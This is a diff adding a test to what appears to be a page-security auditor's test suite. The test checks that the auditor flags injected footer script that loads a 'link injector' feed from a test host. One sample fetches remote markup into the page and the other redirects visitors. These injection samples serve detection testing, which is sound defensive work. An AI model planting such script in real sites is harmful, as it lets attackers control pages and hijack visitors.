@@ -217,3 +217,23 @@ def test_the_answer_in_a_template_literal_is_read(audit_listed: AuditListed) -> 
                           "`${t}`;});</script>")
     assert [f.severity for f in audit_listed(page, URL).findings
             if f.kind == "fetched-markup"] == [M]
+
+
+# a link injector's feed address with its tracking query, 700 characters, held in a name:
+# the address a name was last assigned is read one way, to one bound
+# (`scheme_urls.ADDRESS_MAX`), whether the name is fetched or the window sent to it
+LONG = "https://cdn.linkpool-hub.test/feed/get?" + "&".join(
+    f"k{i}=v{i:03d}" for i in range(74))
+
+
+def test_a_long_address_held_in_a_name_is_read_as_a_redirect_reads_it(
+        audit_listed: AuditListed) -> None:
+    assert 650 < len(LONG) < 2000
+    fetched = wp_page(footer=(
+        f"<div id='ft'></div><script>var feedUrl='{LONG}';fetch(feedUrl).then(r=>r.text())"
+        ".then(t=>{document.getElementById('ft').innerHTML=t});</script>"))
+    sent = wp_page(footer=f"<script>var feedUrl='{LONG}';window.location.href=feedUrl;</script>")
+    (fetch,) = [f for f in audit_listed(fetched, URL).findings if f.kind == "fetched-markup"]
+    (redirect,) = [f for f in audit_listed(sent, URL).findings if f.kind == "redirect"]
+    assert fetch.severity == M
+    assert redirect.evidence == LONG and LONG.startswith(fetch.evidence)  # its evidence cut
